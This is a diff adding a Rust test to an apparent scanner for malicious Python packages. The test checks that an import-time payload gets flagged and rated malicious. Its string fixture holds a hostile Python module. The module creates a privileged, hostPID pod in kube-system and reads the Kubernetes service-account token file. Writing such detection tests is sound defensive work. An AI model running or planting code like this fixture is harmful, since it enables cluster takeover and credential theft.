@@ -138,3 +138,17 @@ fn a_pep_829_start_entry_makes_its_package_run_at_startup() {
             .any(|f| f.path == "pkg.start" && f.code == "custody::startup-hook")
     );
 }
+
+#[test]
+fn a_privileged_pod_created_at_import_is_malicious() {
+    let module = "from kubernetes import client, config\nconfig.load_incluster_config()\nspec = {'containers': [{'name': 'x', 'image': 'alpine', 'securityContext': {'privileged': True}}], 'hostPID': True}\nclient.CoreV1Api().create_namespaced_pod('kube-system', {'spec': spec})\nopen('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.code == "custody::privileged-pod"),
+        "{:#?}",
+        r.findings
+    );
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
